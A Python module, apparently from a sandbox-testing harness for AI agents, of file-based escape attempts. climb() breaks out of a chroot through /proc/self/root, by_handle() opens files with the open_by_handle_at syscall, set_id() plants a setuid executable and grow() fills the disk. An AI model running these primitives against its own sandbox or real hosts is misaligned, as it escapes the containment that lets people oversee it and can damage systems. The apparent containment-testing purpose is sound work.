"""Attempts by way of files: read, write and name what is not in the workspace."""

import ctypes
import os
import subprocess
from pathlib import Path

_OPEN_BY_HANDLE = {"x86_64": 304, "aarch64": 265}


def read(path: str) -> str:
    """What a file holds."""
    return Path(path).read_bytes().decode(errors="backslashreplace")


def write(path: str, text: str) -> str:
    """Leave a file somewhere. What is written may be in a place of the sandbox's own: look outside."""
    Path(path).write_text(text)
    return "wrote"


def append(path: str, text: str) -> str:
    """Add to a file that is there."""
    with open(path, "a") as file:  # noqa: PTH123 - as short as what an agent brings along
        file.write(text)
    return "wrote"


def linked(path: str, name: str) -> str:
    """Read a file by a name of one's own for it."""
    os.link(path, name)
    try:
        return read(name)
    finally:
        os.unlink(name)  # noqa: PTH108


def climb(path: str) -> str:
    """Read a file by going up from a folder that was open before the root was another one."""
    folder = os.open("/proc/self/root", os.O_RDONLY | os.O_DIRECTORY)
    for _ in range(16):
        folder = os.open("..", os.O_RDONLY | os.O_DIRECTORY, dir_fd=folder)
    with os.fdopen(os.open(path.lstrip("/"), os.O_RDONLY, dir_fd=folder)) as file:
        return file.read()


def by_handle(kind: int, handle: str) -> str:
    """Read a file by the number that its file system has for it, without any path."""
    content = bytes.fromhex(handle)
    words = (ctypes.c_char * (8 + len(content)))()
    words.raw = len(content).to_bytes(4, "little") + kind.to_bytes(4, "little") + content
    folder = os.open(".", os.O_RDONLY)
    libc = ctypes.CDLL(None, use_errno=True)
    found = libc.syscall(_OPEN_BY_HANDLE[os.uname().machine], folder, words, os.O_RDONLY)
    if found < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    with os.fdopen(found) as file:
        return file.read()


def set_id(path: str) -> str:
    """Leave a program that runs as whoever owns it."""
    Path(path).write_bytes(Path("/bin/true").read_bytes())
    os.chmod(path, 0o4755)  # noqa: PTH101
    return "left"


def git(words: list[str]) -> str:
    """Give git an order."""
    done = subprocess.run(["git", *words], capture_output=True, text=True, timeout=8, check=False)
    if done.returncode != 0:
        raise OSError(done.stderr.strip()[-200:])
    return "done"


def grow(path: str, megabytes: int, token: str) -> str:
    """Fill the disk by one file."""
    try:
        with Path(path).open("wb", buffering=0) as file:
            for _ in range(megabytes):
                file.write(bytes(1 << 20))
    finally:
        Path(path).unlink()
    return token
